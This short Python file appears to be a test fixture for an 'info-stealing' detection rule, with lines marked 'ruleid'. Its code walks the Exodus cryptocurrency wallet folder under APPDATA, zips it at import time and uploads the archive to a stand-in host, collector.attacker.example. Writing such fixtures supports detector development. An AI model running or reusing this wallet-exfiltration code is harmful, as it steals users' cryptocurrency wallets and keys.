# Whole wallet folders, named only as the last piece of a joined path, zipped and uploaded at import time.
import os
import zipfile

import requests

archive = zipfile.ZipFile(os.path.join(os.getenv('TEMP', '/tmp'), 'w.zip'), 'w')
# ruleid: code/info-stealing
for root, _, files in os.walk(os.path.join(os.getenv('APPDATA', ''), 'Exodus')):
    for f in files:
        archive.write(os.path.join(root, f))
archive.close()
# ruleid: code/info-stealing
requests.post('https://collector.attacker.example/w', files={'z': open(archive.filename, 'rb')})
